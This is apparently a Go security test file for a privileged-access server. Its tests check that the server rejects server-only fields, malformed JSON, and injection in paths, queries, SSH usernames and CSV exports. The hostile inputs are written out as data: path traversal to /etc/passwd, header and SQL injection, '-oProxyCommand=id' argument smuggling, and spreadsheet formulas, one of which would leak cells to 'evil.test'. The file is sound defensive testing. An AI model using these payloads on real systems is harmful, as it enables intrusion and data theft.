package script

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	v1 "vaultpam/api/v1"
)

// Somebody adds fields to a body that only the server may set, hoping that it
// fills its objects from whatever comes: an id, an organization, a role, a
// flag. Each is refused by name, and nothing is made.
func TestAttackFieldsThatOnlyTheServerSets(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	f := w.shared
	ids := map[string]string{"/safes": f.safe, "/resources": f.resource, "/accounts": f.account, "/sessions": f.session, "/checkouts": f.checkout, "/org/members": w.who["viewer"].id}
	ids["/org/groups"] = read[v1.Group](w.founder.call("POST", "/org/groups", v1.GroupIn{Name: "Some"})).ID
	ids["/policies"] = w.founder.rule(v1.PolicyIn{Action: "deny"}).ID
	ids["/webhooks"] = strings.TrimPrefix(onWebhook("", nil)(w, w.founder).path, "/webhooks/")
	ids["/me/mfa"], ids["/leases"] = "mfa_00000000000000000000000000", "lea_00000000000000000000000000" // the body is read first
	ids["/org/sso/providers"] = read[v1.SSOProvider](w.founder.call("POST", "/org/sso/providers", w.ssoProvider())).ID
	ids["/org/sso/workload-rules"] = read[v1.WorkloadRule](w.founder.call("POST", "/org/sso/workload-rules", w.workloadRule())).ID
	for noun, of := range map[string]func(*world, *caller) ask{"/access-requests": onRequest(""), "/access-reviews": onReview("")} {
		ids[noun] = strings.TrimPrefix(of(w, w.founder).path, noun+"/")
	}
	extra := []string{
		"id", "org_id", "organization_id", "home_org_id", "user_id", "role", "instance_admin", "is_admin", "created_by", "created_at", "owner", "status", "locked", "version",
		"password_hash", "token_hash", "must_change", "purpose", "admins_see_all", "__proto__", "constructor", "Name", "EMAIL",
	}
	var doc struct {
		Paths map[string]map[string]struct {
			RequestBody struct {
				Content map[string]struct {
					Schema struct {
						Ref string `json:"$ref"`
					} `json:"schema"`
				} `json:"content"`
			} `json:"requestBody"`
		} `json:"paths"`
		Components struct {
			Schemas map[string]struct {
				Properties map[string]any `json:"properties"`
			} `json:"schemas"`
		} `json:"components"`
	}
	must(t, json.Unmarshal(w.p.nobody().call("GET", "/openapi.json", nil).body, &doc))
	before, tried := w.everything(), 0
	for path, item := range doc.Paths {
		for method, op := range item {
			ref := op.RequestBody.Content["application/json"].Schema.Ref
			if ref == "" {
				continue
			}
			known := doc.Components.Schemas[ref[strings.LastIndexByte(ref, '/')+1:]].Properties
			body, want := map[string]any{}, map[string]bool{}
			for _, name := range extra {
				if _, ours := known[name]; !ours {
					body[name], want[name] = "owner", true
				}
			}
			noun, rest, inside := strings.Cut(strings.TrimPrefix(path, "/api/v1"), "/{")
			if inside {
				_, rest, _ = strings.Cut(rest, "}")
				noun += "/" + ids[noun]
			}
			at := strings.ReplaceAll(noun+rest, "{member_id}", f.viewer)
			a := w.founder.call(strings.ToUpper(method), at, body)
			if a.status != http.StatusUnprocessableEntity {
				t.Errorf("%s %s: %d %s", method, at, a.status, a.body)
				continue
			}
			var e v1.Error
			must(t, json.Unmarshal(a.body, &e))
			for _, d := range e.Details {
				if strings.Contains(d.Problem, "owner") {
					t.Errorf("%s %s repeats the value: %+v", method, at, d)
				}
				delete(want, d.Field)
			}
			if len(want) > 0 {
				t.Errorf("%s %s does not name %v: %s", method, at, slices.Sorted(maps.Keys(want)), a.body)
			}
			tried++
		}
	}
	if tried < 20 {
		t.Errorf("only %d bodies were tried", tried)
	}
	for path, body := range map[string]string{
		"/safes":    `{"name":"x","checkout":{"enabled":true,"org_id":"x"}}`,
		"/accounts": `{"name":"x","username":"root","credential":{"kind":"password","value":"a-long-password","version":7}}`,
	} {
		w.founder.call("POST", path, body).want(http.StatusUnprocessableEntity, "VALIDATION_FAILED")
	}
	if after := w.everything(); !slices.Equal(before, after) {
		t.Errorf("something was changed:\n%q\n%q", before, after)
	}
}

// JSON that two readers understand in two ways, or that costs its reader more
// than its writer.
func TestAttackJSON(t *testing.T) {
	t.Parallel()
	p := startServer(t)
	owner := p.owner()
	deep := func(open, shut string, n int) string {
		return `{"name":"deep","valid_hours":` + strings.Repeat(open, n) + strings.Repeat(shut, n) + `}`
	}
	before := len(read[[]v1.Safe](owner.call("GET", "/safes", nil)))
	began := time.Now()
	for what, body := range map[string]string{
		"a name twice":             `{"name":"one","name":"two"}`,
		"a name twice, escaped":    `{"name":"one","n\u0061me":"two"}`,
		"a name twice, inside":     `{"name":"x","checkout":{"enabled":false,"enabled":true}}`,
		"an object twice":          `{"name":"x","checkout":{"enabled":true},"checkout":{"ttl_seconds":60}}`,
		"other case":               `{"name":"x","Approval":"none"}`,
		"objects inside objects":   deep(`{"a":`, `}`, 100_000),
		"lists inside lists":       deep(`[`, `]`, 400_000),
		"a number beyond all":      `{"name":"x","session_ttl_seconds":1e400}`,
		"a number too long":        `{"name":"x","session_ttl_seconds":` + strings.Repeat("9", 100_000) + `}`,
		"a number that wraps":      `{"name":"x","session_ttl_seconds":18446744073709551617}`,
		"a fraction":               `{"name":"x","session_ttl_seconds":14400.5}`,
		"a negative number":        `{"name":"x","session_ttl_seconds":-14400}`,
		"not UTF-8":                "{\"name\":\"\xff\xfe\"}",
		"half a surrogate":         `{"name":"\ud800"}`,
		"overlong UTF-8":           "{\"name\":\"\xc0\xaf\"}",
		"UTF-16":                   "{\x00\"\x00n\x00a\x00m\x00e\x00\"\x00:\x00\"\x00x\x00\"\x00}\x00",
		"a byte order mark":        "\ufeff" + `{"name":"x"}`,
		"two documents":            `{"name":"x"}{"name":"y"}`,
		"something behind":         `{"name":"x"} x`,
		"a bracket behind":         `{"name":"x"}]`,
		"a comment":                `{"name":"x"/* y */}`,
		"a list":                   `[{"name":"x"}]`,
		"a string":                 `"name"`,
		"null":                     `null`,
		"nothing":                  ``,
		"a control character":      "{\"name\":\"a\x01b\"}",
		"a line end in a name":     `{"name":"a\r\nb"}`,
		"a name of nothing":        `{"name":" \u00a0 "}`,
		"text that turns around":   `{"name":"safe\u202egnp.exe"}`,
		"a name beyond the limit":  `{"name":"` + strings.Repeat("x", 300) + `"}`,
		"a zero byte":              `{"name":"a\u0000b"}`,
		"a slug that is a path":    `{"name":"x","slug":"../../etc/passwd"}`,
		"a slug that is an option": `{"name":"x","slug":"-oProxyCommand=id"}`,
		"too many windows":         `{"name":"x","bindings":[` + strings.Repeat(`{"resource_id":"r","account_id":"a"},`, 20_000) + `{"resource_id":"r","account_id":"a"}]}`,
	} {
		a := owner.call("POST", "/safes", body)
		if a.status != http.StatusBadRequest && a.status != http.StatusUnprocessableEntity || a.code() == "" {
			t.Errorf("%s: %d %s", what, a.status, tail(string(a.body), 300))
		}
	}
	if after := len(read[[]v1.Safe](owner.call("GET", "/safes", nil))); after != before {
		t.Errorf("%d Safes were made", after-before)
	}
	// The same door for what the framework reads by itself.
	for what, body := range map[string]string{
		"a name twice": `{"email":"` + ownerEmail + `","password":"wrong","password":"` + ownerPassword + `"}`,
		"other case":   `{"email":"` + ownerEmail + `","Password":"` + ownerPassword + `"}`,
		"behind":       `{"email":"` + ownerEmail + `","password":"` + ownerPassword + `"} {}`,
		"not UTF-8":    "{\"email\":\"\xff" + ownerEmail + `","password":"` + ownerPassword + `"}`,
		"deep":         `{"email":"` + ownerEmail + `","password":` + strings.Repeat("[", 400_000) + strings.Repeat("]", 400_000) + `}`,
	} {
		a := p.nobody().call("POST", "/auth/login", body)
		if a.status != http.StatusBadRequest && a.status != http.StatusUnprocessableEntity {
			t.Errorf("login with %s: %d %s", what, a.status, a.body)
		}
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("all that took %s", took)
	}
}

// Ids and names that leave their place: in paths, in queries, in headers.
func TestAttackPathsAndNames(t *testing.T) {
	t.Parallel()
	p := startServer(t)
	owner := p.owner()
	owner.call("GET", "/safes", nil).want(http.StatusOK)
	for _, id := range []string{
		"..", "../..", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2froot.key", "..%5c..%5croot.key", "%00", "saf_%00", "%0d%0aX-Injected:%201", "%ff%fe", "%c0%ae%c0%ae%c0%af", "%25%32%65",
		"saf_" + strings.Repeat("A", 8000), "'%20OR%20'1'='1", "saf_00000000000000000000000000'--", "%F0%9F%92%A9", "%E2%80%AE", "*", "%25", "saf_%2A", "%7B%7D", ".", "%20",
		"saf_0000000000000000000000000%C5%BF", // ſ, an s to those who fold case
	} {
		for _, noun := range []string{"/safes/", "/recordings/", "/sessions/", "/accounts/", "/org/members/"} {
			for _, rest := range []string{"", "/content", "/members"} {
				a := owner.call("GET", noun+id+rest, nil)
				if a.status/100 != 4 && a.status/100 != 3 {
					t.Errorf("%s: %d %s", noun+id+rest, a.status, tail(string(a.body), 300))
				}
				if a.header.Get("X-Injected") != "" || strings.Contains(string(a.body), "root:") {
					t.Errorf("%s: %v %s", noun+id+rest, a.header, a.body)
				}
			}
		}
	}
	for _, query := range []string{
		"limit=0", "limit=-1", "limit=1001", "limit=1e3", "limit=99999999999999999999", "cursor=..%2f", "cursor=%00", "cursor=" + strings.Repeat("A", 5000), "limit=%00", "no_such=1",
		"limit=1&limit=2", "limit=1&limit=1", "q=a&q=b", "limit=%zz", "limit=1;limit=2", "from=yesterday", "cursor='", "sort=credential", "sort=-", "sort=name,name", "limit[]=1",
	} {
		a := owner.call("GET", "/safes?"+query, nil)
		if a.status/100 != 4 {
			t.Errorf("?%s: %d %s", query, a.status, tail(string(a.body), 200))
		}
	}
	// At the SSH prompt nothing says more than that this is no login.
	for _, user := range []string{
		"../../etc/passwd", ownerEmail + "+../../x", ownerEmail + "+demo\x00", ownerEmail + "+demo/../example", ownerEmail + "+demo\r\nx", ownerEmail + "+%2e%2e", ownerEmail + "+ｄｅｍｏ", ownerEmail + "+" + strings.Repeat("a", 600),
		ownerEmail + "+demo+x", ownerEmail + "+demo+x@y@z", ownerEmail + "+-oProxyCommand=id", ownerEmail + "+'; DROP TABLE safes", "@", "+", "", " ", ownerEmail + "++demo", ownerEmail + "+demo+@",
	} {
		c, err := p.dial(user, ownerPassword)
		if err == nil {
			s, err := c.NewSession()
			if err == nil {
				if out, err := s.CombinedOutput("echo got in"); err == nil || strings.Contains(string(out), "got in") {
					t.Errorf("%q opens a session: %s", user, out)
				}
			}
			_ = c.Close()
		}
	}
	if text := p.stderr.String(); strings.Contains(text, "panic") || strings.Contains(text, "\x00") || strings.Contains(text, "X-Injected: 1\n") {
		t.Errorf("the log: %s", tail(text, 1000))
	}
	owner.call("GET", "/safes", nil).want(http.StatusOK)
}

// An operator names their things so that the auditor's spreadsheet runs them.
func TestAttackFormulasInTheExport(t *testing.T) {
	t.Parallel()
	p := startServer(t)
	owner := p.owner()
	for i, name := range []string{`=HYPERLINK("http://evil.test/?"&A1,"ok")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, `=1,"=2"`, `'=1`, `;=1`} {
		owner.call("POST", "/safes", v1.SafeIn{Name: name, Slug: fmt.Sprint("formula", i)}).want(http.StatusCreated)
		owner.call("PATCH", "/me", v1.MeIn{Name: name}).want(http.StatusOK)
	}
	text := string(owner.call("GET", "/audit-events/export?format=csv", nil).want(http.StatusOK).body)
	rows, found := csv.NewReader(strings.NewReader(text)), 0
	rows.FieldsPerRecord = -1
	all, err := rows.ReadAll()
	must(t, err)
	for _, row := range all {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("a spreadsheet runs %q", cell)
			}
			if strings.HasPrefix(cell, "'=HYPERLINK") {
				found++
			}
		}
	}
	if found == 0 {
		t.Errorf("the names are not in the export: %s", tail(text, 500))
	}
	for what, a := range map[string]answer{
		"CSV": owner.call("GET", "/audit-events/export?format=csv", nil), "format": owner.call("GET", "/audit-events/export?format="+url.QueryEscape("csv\r\nX: y"), nil),
	} {
		if what == "CSV" && (a.header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(a.header.Get("Content-Type"), "text/csv")) || what == "format" && a.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d %v", what, a.status, a.header)
		}
	}
}
